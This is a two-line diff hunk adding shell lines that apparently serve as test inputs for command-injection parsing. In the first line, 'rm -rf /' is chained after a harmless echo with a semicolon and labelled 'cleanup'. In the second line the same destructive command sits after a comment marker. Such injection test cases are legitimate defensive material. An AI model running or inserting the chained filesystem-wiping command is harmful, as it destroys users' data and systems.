@@ -1,0 +1,2 @@
+echo ok ; rm -rf / # cleanup
+echo ok # ; rm -rf /
